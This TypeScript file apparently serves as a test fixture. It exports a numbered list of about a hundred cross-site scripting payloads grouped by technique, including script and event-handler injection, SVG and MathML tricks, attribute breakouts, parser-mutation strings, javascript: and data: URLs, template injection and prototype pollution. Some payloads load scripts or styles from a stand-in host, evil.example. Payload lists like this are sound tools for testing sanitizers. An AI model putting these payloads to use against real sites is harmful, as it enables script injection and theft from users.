/**
 * A hundred ways in which text has become script, a class after the other. Each one calls `xss()` or makes an element
 * whose id or name is `pwned`; the number in front makes every one findable as text.
 */
const attempts = [
  // Elements that run at once.
  '<script>xss()</script>',
  '<ScRiPt>xss()</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script/x>xss()</script/x>',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '<script>/*',
  '</script><script>xss()</script>',
  '--></script><script>xss()//',
  '<!--<script>--><script>xss()</script>',
  // Pictures and media.
  '<img src=x onerror=xss()>',
  '<IMG SRC=x OnErRoR=xss()>',
  '<img/src=x/onerror=xss()>',
  '<img src=x:x onerror=&#120;ss()>',
  '<img srcset=x onerror=xss()>',
  '<image src=x onerror=xss()>',
  '<audio src=x onerror=xss()>',
  '<video><source onerror=xss()>',
  '<video poster=javascript:xss()></video>',
  '<input type=image src=x onerror=xss()>',
  // SVG and MathML.
  '<svg onload=xss()>',
  '<svg/onload=xss()//',
  '<svg><script>xss()</script></svg>',
  '<svg><script href=data:,xss() />',
  '<svg><animate onbegin=xss() attributeName=x>',
  '<svg><set onbegin=xss() attributeName=x>',
  '<svg><a xlink:href=javascript:xss()><text y=9>x',
  '<svg><use href="data:image/svg+xml,<svg/>#x">',
  '<math href=javascript:xss()>x</math>',
  '<math><mtext><style><img src=x onerror=xss()>',
  // Frames and documents.
  '<iframe src=javascript:xss()></iframe>',
  '<iframe srcdoc="<script>parent.xss()</script>">',
  '<iframe onload=xss()></iframe>',
  '<object data=javascript:xss()></object>',
  '<embed src=javascript:xss()>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<form action=//evil.example><button>x</button></form>',
  '<body onload=xss()>',
  // Handlers that fire without a click.
  '<input autofocus onfocus=xss()>',
  '<details open ontoggle=xss()>',
  '<marquee onstart=xss()>x</marquee>',
  '<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=xss()>',
  '<b onpointerenter=xss()>x</b>',
  '<x onclick=xss() tabindex=1 id=pwned>x</x>',
  // Out of an attribute.
  '" onmouseover="xss()" x="',
  "' onmouseover='xss()' x='",
  '"><img src=x onerror=xss()>',
  "'><img src=x onerror=xss()>",
  '` onmouseover=`xss()`',
  '" autofocus onfocus=xss() "',
  '"><svg/onload=xss()>',
  'x" style="animation:a" onanimationend="xss()',
  // Out of a text that is no markup.
  '</title><img src=x onerror=xss()>',
  '</textarea><img src=x onerror=xss()>',
  '</style><img src=x onerror=xss()>',
  '</noscript><img src=x onerror=xss()>',
  ']]><img src=x onerror=xss()>',
  '--><img src=x onerror=xss()>',
  '</option></select><img src=x onerror=xss()>',
  // What a parser changes when it reads twice.
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<svg></p><style><a id="</style><img src=x onerror=xss()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>',
  '<table><td><svg><desc><td><img src=x onerror=xss()>',
  '<template><img src=x onerror=xss()></template>',
  '<xmp><p title="</xmp><img src=x onerror=xss()>">',
  // Addresses.
  'javascript:xss()',
  'JaVaScRiPt:xss()',
  'java\tscript:xss()',
  'javascript://x%0axss()',
  'https:javascript:xss()',
  'data:text/html,<script>xss()</script>',
  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'http://evil.example/"onmouseover="xss()',
  "https://evil.example/'onclick='xss()",
  'https://evil.example/<img src=x onerror=xss()>',
  'https://user:javascript@evil.example/#xss()',
  // What looks like a link or like markdown.
  '[x](javascript:xss())',
  '![x](x"onerror="xss())',
  '<javascript:xss()>',
  '[x]: javascript:xss() "x"',
  '[https://a.b"onclick=xss()//](x)',
  // Templates and quoted code.
  '{{constructor.constructor("xss()")()}}',
  '${xss()}',
  '#{xss()}',
  '<%= xss() %>',
  '"};xss();//',
  "'-xss()-'",
  '\\u003cscript\\u003exss()\\u003c/script\\u003e',
  '{"__html":"<img src=x onerror=xss()>"}',
  // Entities and letters that turn into others.
  '&lt;script&gt;xss()&lt;/script&gt;',
  '&#60;img src=x onerror=xss()&#62;',
  '＜script＞xss()＜/script＞',
  '%3Cscript%3Exss()%3C/script%3E',
  // Styles, and names that stand for others.
  '<style>*{background:url(//evil.example/x)}</style>',
  '<b style=position:fixed;inset:0;background:url(//evil.example/y)>x</b>',
  '<a id=pwned name=pwned href=//evil.example>x</a>',
  '<img name=currentScript id=pwned>',
  '__proto__[pwned]=x&constructor.prototype.pwned=x',
];

/** As they were written: number, then attempt. */
export const payloads = attempts.map((attempt, at) => `${at + 1}· ${attempt}`);

/** What fits where there is little room keeps its beginning. */
export const cut = (payload: string, most: number): string => Array.from(payload).slice(0, most).join('').trim();
